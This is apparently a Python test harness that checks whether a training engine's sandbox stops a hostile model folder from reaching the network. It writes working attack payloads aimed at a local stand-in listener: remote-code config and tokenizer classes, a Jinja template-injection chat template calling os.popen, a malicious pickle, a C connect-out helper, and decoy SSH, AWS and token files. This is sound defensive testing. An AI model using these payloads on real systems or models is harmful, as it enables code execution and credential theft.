"""python hostile_run.py LEVEL FOLDER: a run whose worker is hostile_worker.py, in a network of its own with a listener.

On stdout one JSON object: attacks {name: outcome}, hits, control, seal, ways_out, outcome and cause of the run.
"""

from __future__ import annotations

import json
import os
import pickle
import select
import shlex
import shutil
import socket
import subprocess
import sys
import time
from pathlib import Path
from typing import Any

from private_network import OUTSIDE

from engine.run.creating import create_run
from engine.run.launch import launch
from engine.run.liveness import liveness
from engine.run.processes.worker_process import COMMAND_VARIABLE
from engine.run.telemetry.reading import read_state
from engine.seal.proof.listener import Listener
from engine.spec import parse_spec

# Of a run that trains nothing: a machine that is busy otherwise takes a minute for its imports.
_SECONDS = 240.0
TOKEN = "hf_a_made_up_token"

_CODE = """
from urllib.request import urlopen
from transformers import {base}
class {name}({base}):
    model_type = "hostile"
    said = urlopen("{url}", timeout=2).read().decode()
    @classmethod
    def from_pretrained(cls, *given, **named):
        return cls
"""
_HELPER = r"""
#include <arpa/inet.h>
#include <stdio.h>
#include <sys/socket.h>
#include <unistd.h>
int main(void) {
    struct sockaddr_in at = {.sin_family = AF_INET, .sin_port = htons(PORT)};
    inet_pton(AF_INET, HOST, &at.sin_addr);
    int out = socket(AF_INET, SOCK_STREAM, 0);
    if (connect(out, (struct sockaddr *)&at, sizeof at)) { perror("connect"); return 1; }
    dprintf(out, NONCE "\n");
    char answer[99] = "";
    read(out, answer, sizeof answer - 1);
    puts(answer);
    return 0;
}
"""


class _Pickled:
    def __init__(self, url: str):
        self._url = url

    def __reduce__(self) -> tuple[Any, tuple[Any, ...]]:
        script = f"from urllib.request import urlopen; print(urlopen({self._url!r}, timeout=2).read().decode())"
        return subprocess.getoutput, (shlex.join([sys.executable, "-c", script]),)


def main(level: str, folder: str) -> None:
    assert [name for _, name in socket.if_nameindex()] == ["lo"], "not in a network of its own"
    home, doors = Path.home(), Path(folder) / "doors"
    doors.mkdir(mode=0o700)
    listener = Listener((doors,), ip=OUTSIDE)
    fake = [sys.executable, str(Path(__file__).with_name("hostile_worker.py"))]
    os.environ |= {COMMAND_VARIABLE: shlex.join(fake), "HF_TOKEN": TOKEN, "AWS_SECRET_ACCESS_KEY": TOKEN}
    model, rows = Path(folder) / "model", Path(folder) / "rows.jsonl"
    values = {"model": {"path": str(model)}, "data": {"train": [str(rows)]}, "privacy": {"seal": level}}
    another = create_run(parse_spec({"name": "another", **values}, "another run")).events_path
    another.write_text("what others train\n")
    _write_hostile_files(model, rows, home, another, listener)
    control = listener.control()
    run = launch(parse_spec({"name": "hostile", **values}, "a hostile run"))
    deadline = time.monotonic() + _SECONDS
    while (state := read_state(run)).outcome is None and time.monotonic() < deadline:
        select.select([listener], [], [], 0.05)
        listener.take()
    while liveness(run) == "live" and time.monotonic() < deadline:
        time.sleep(0.02)  # its engine tidies up, and the test removes all of this folder
    listener.take()
    attacks = run.outputs / "attacks.json"
    told = {
        "attacks": json.loads(attacks.read_text()) if attacks.exists() else {},
        "hits": listener.hits,
        "strays": listener.strays,
        "control": control and listener.control(),
        "seal": dict(state.seal),
        "ways_out": [dict(each) for each in state.ways_out],
        "end": [state.outcome, state.cause, state.why],
        "bashrc": (home / ".bashrc").read_text(),
        "log": run.log_path.read_text()[-2000:],
    }
    listener.close()
    print(json.dumps(told))


def _write_hostile_files(model: Path, rows: Path, home: Path, another: Path, listener: Listener) -> None:
    """A model's folder and a file of rows, each with all that hostile ones were seen to hold."""
    address = listener.address("tcp")
    assert address is not None
    host, url = "{}:{}".format(*address), "http://{}:{}/{}".format(*address, listener.nonce)
    model.mkdir()
    (model / "config.json").write_text(
        json.dumps({"model_type": "hostile", "auto_map": {"AutoConfig": "configuration_hostile.Hostile"}})
    )
    (model / "configuration_hostile.py").write_text(_CODE.format(base="PretrainedConfig", name="Hostile", url=url))
    (model / "tokenizer_config.json").write_text(
        json.dumps({"auto_map": {"AutoTokenizer": ["tokenization_hostile.HostileTokenizer", None]}})
    )
    (model / "tokenization_hostile.py").write_text(
        _CODE.format(base="PreTrainedTokenizer", name="HostileTokenizer", url=url)
    )
    script = f"from urllib.request import urlopen; print(urlopen('{url}', timeout=2).read().decode())"
    (model / "chat_template.jinja").write_text(
        '{{ cycler.__init__.__globals__.os.popen("' + f'{sys.executable} -c \\"{script}\\"' + '").read() }}'
    )
    (model / "weights.bin").write_bytes(pickle.dumps(_Pickled(url)))
    if compiler := shutil.which("cc"):
        defines = [f'-DHOST="{address[0]}"', f"-DPORT={address[1]}", f'-DNONCE="{listener.nonce}"']
        command = [compiler, "-x", "c", "-o", str(model / "helper"), *defines, "-"]
        subprocess.run(command, input=_HELPER, text=True, check=True)
    rows.write_text("".join(json.dumps({kind: f"{url}/{kind}"}) + "\n" for kind in ("image", "audio")))
    secrets = [".ssh/id_ed25519", ".netrc", ".aws/credentials", ".cache/huggingface/token"]
    for name in (*secrets, ".bashrc"):
        (home / name).parent.mkdir(parents=True, exist_ok=True, mode=0o700)
        (home / name).write_text("a secret of a made-up person\n")
    aims = {
        "nonce": listener.nonce,
        "host": host,
        "token": TOKEN,
        "home": str(home),
        "another": str(another),
        "secrets": [str(home / name) for name in secrets],
        "sockets": listener.streams,
        "rows": str(rows),
    }
    (model / "attacks.json").write_text(json.dumps(aims))


if __name__ == "__main__":
    main(*sys.argv[1:])
